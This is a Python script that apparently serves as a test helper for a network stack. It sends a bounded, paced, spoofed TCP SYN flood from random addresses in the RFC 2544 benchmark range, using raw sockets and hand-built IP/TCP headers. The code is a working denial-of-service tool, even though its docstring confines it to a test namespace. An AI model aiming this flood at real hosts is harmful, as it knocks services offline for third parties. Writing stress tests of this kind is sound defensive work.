#!/usr/bin/env python3
"""Spoofed SYN flood for t_58 (run inside the test's namespace only): COUNT SYNs to DST:PORT
from random sources in 198.18.0.0/15 (RFC 2544 benchmark space, off-link for the stack, so its
SYN-ACKs go to the gateway and die there), with Linux's SYN options (MSS, SACK-permitted,
timestamps, window scale). Paced in bursts to finish in about half of SECONDS; bounded in count
and time. Prints the count sent."""
import random, socket, struct, sys, time

dst, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
d = socket.inet_aton(dst)
rng = random.Random(58)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    t = (t >> 16) + (t & 0xFFFF)
    t += t >> 16
    return ~t & 0xFFFF


# MSS 1460, SACK_PERM, TS, NOP, WS 7 (Linux's layout): 20 bytes.
def options(tsval):
    return struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", tsval, 0) + bytes([1, 3, 3, 7])


sent = 0
start = time.monotonic()
deadline = start + seconds
burst = 100
pace = seconds / 2 / count  # finish in about half the time allowed
while sent < count and time.monotonic() < deadline:
    for _ in range(min(burst, count - sent)):
        src = struct.pack("!I", (198 << 24 | 18 << 16) + rng.randrange(1, 1 << 17))
        sport = rng.randrange(1024, 65535)
        opt = options(rng.randrange(1 << 32))
        tcp = struct.pack("!HHIIBBHHH", sport, port, rng.randrange(1 << 32), 0, (5 + len(opt) // 4) << 4, 0x02, 64240, 0, 0) + opt
        pseudo = src + d + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.randrange(65536), 0, 64, 6, 0, src, d)
        try:
            s.sendto(ip + tcp, (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)  # the TAP queue is full: let the stack catch up
    # Sleep only while ahead of the schedule: a fixed sleep per burst (10 s in all) plus the
    # time to build the SYNs overran the deadline on a slow or busy machine.
    ahead = start + sent * pace - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
print(sent)
